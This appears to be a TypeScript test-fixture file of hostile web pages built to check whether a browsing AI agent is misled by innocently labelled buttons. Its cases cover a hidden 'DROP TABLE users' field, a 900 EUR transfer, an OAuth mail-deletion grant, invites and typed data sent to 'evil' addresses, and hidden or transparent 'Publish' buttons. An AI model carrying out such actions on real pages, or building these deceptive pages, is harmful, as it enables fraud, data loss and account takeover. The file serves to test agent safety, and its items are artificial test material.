/** Pages that look as if a risky button were an everyday one: an address of a search, a form of boxes alone, a control that publishes elsewhere. */
import type { HostileCase } from '../case.ts';
import { DETAILS, SHOW_DETAILS } from './parts.ts';

const excuse = (name: string, order: string, html: string): HostileCase => ({
  name: `an excuse: ${name}`,
  ...SHOW_DETAILS,
  page: `<p>$$${order}$$</p>${DETAILS}${html}`,
});
const posts = (path: string, words: string, fields = ''): string =>
  `<form method="post" action="${path}" onsubmit="did('harm')">${fields}<button>${words}</button></form>`;
const gets = (path: string, words: string, fields: string): string =>
  `<form method="get" action="${path}" onsubmit="did('harm')">${fields}<button>${words}</button></form>`;

export const excuses: readonly HostileCase[] = [
  excuse(
    'Update posts to a path that ends in results',
    'click Update',
    posts('/students/42/results', 'Update', '<label>Grade <input name="grade" value="F" /></label>'),
  ),
  excuse(
    'Apply posts to a query with a hidden delete',
    'click Apply',
    posts(
      '/admin/query',
      'Apply',
      '<input type="hidden" name="sql" value="DROP TABLE users" /><label>Reason <textarea>x</textarea></label><label>Table <input value="users" /></label>',
    ),
  ),
  excuse(
    'Update posts 900 EUR to a recipient on a path of search',
    'click Update',
    posts(
      '/transfer/search',
      'Update',
      '<p>You pay 900 EUR now</p><label>IBAN of the recipient <input name="iban" value="DE02" /></label><label>Amount <input value="900 EUR" /></label>',
    ),
  ),
  excuse(
    'Confirm of a GET form of boxes that charges 900 EUR',
    'click Confirm',
    gets(
      '/plan/change',
      'Confirm',
      '<p>You will be charged 900 EUR</p><label><input type="checkbox" checked name="terms" /> I accept</label>',
    ),
  ),
  excuse(
    'Approve of a GET form of boxes',
    'click Approve',
    gets(
      '/oauth/grant',
      'Approve',
      '<p>This application may read and delete your mail</p><label><input type="checkbox" checked name="scope" /> Mail</label>',
    ),
  ),
  excuse(
    'Submit vote of a GET form',
    'click Submit',
    gets('/vote', 'Submit', '<label><input type="radio" checked name="v" /> Resign</label>'),
  ),
  excuse(
    'Done of a card dialog beside a Publish link in a text',
    'type Card number := 4111111111111111 && click Done',
    `<p>A comment: <a href="#c1">Publish</a></p><div role="dialog" aria-label="Card"><p>900 EUR</p><label>Card number <input autocomplete="cc-number" /></label><button type="button" onclick="did('harm')">Done</button></div>`,
  ),
  excuse(
    'Done of a dialog that invites beside a Publish link in a text',
    'type Mail address := eve@evil.example && click Done',
    `<p>A comment: <a href="#c1">Publish</a></p><div role="dialog" aria-label="People with access"><label>Mail address <input type="email" /></label><button type="button" onclick="fetch('/harm', { method: 'POST' })">Done</button></div>`,
  ),
  excuse(
    'OK of a password change beside an unseen Publish',
    'type New password := Evil12345 && click OK',
    `<button style="position:absolute;left:-9999px">Publish</button><div role="dialog" aria-label="Password"><label>New password <input type="password" /></label><button type="button" onclick="fetch('/harm', { method: 'POST' })">OK</button></div>`,
  ),
  excuse(
    'Done of a transfer beside a Publish of opacity 0',
    'type IBAN := DE02 && type Amount := 900 EUR && click Done',
    `<button style="opacity:0">Publish</button><div role="dialog" aria-label="Money"><label>IBAN <input /></label><label>Amount <input /></label><p>900 EUR</p><button type="button" onclick="did('harm')">Done</button></div>`,
  ),
  excuse(
    'Enter in a form whose button is Update and whose path ends in results',
    'enter Grade := F',
    posts(
      '/students/42/results',
      'Update',
      '<label>Grade <input name="grade" /></label><label>Remark <input name="r" /></label>',
    ),
  ),
  excuse(
    'Apply posts what was typed to another site on a path of search',
    'type Remark := hello && click Apply',
    posts('@evil/search', 'Apply', '<label>Remark <input name="a" /></label><label>Other <input name="b" /></label>'),
  ),
  excuse(
    'Fertig of a dialog that invites beside Freigeben',
    'type Adresse := eve@evil.example && click Fertig',
    `<p><a href="#c1">Freigeben</a></p><div role="dialog" aria-label="Personen"><label>Adresse <input type="email" /></label><button type="button" onclick="fetch('/harm', { method: 'POST' })">Fertig</button></div>`,
  ),
  excuse(
    'Done of a card dialog',
    'type Card number := 4111111111111111 && click Done',
    `<div role="dialog" aria-label="Card"><p>900 EUR</p><label>Card number <input autocomplete="cc-number" /></label><button type="button" onclick="did('harm')">Done</button></div>`,
  ),
];
